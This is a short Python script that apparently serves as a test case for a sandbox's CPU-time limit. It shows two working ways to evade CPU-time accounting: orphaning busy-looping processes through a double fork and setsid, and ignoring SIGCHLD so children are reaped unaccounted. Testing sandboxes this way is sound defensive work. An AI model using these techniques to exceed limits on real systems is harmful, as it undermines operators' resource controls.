# title: use more processor time than the limit, by processes that leave it to nobody
# kind: exhaust
# ways: orphans, ignored
# limits: cpu-time=1s
from attack import *
def burn(seconds):
    while time.process_time() < seconds:
        pass
if get("way") == "orphans":
    for _ in range(5):
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                burn(0.5)
            os._exit(0)
        os.wait()
        time.sleep(0.52)
else:
    signal.signal(signal.SIGCHLD, signal.SIG_IGN)
    for _ in range(8):
        if os.fork() == 0:
            burn(0.3)
            os._exit(0)
        time.sleep(0.32)
escaped("2.4 seconds where one was the limit")
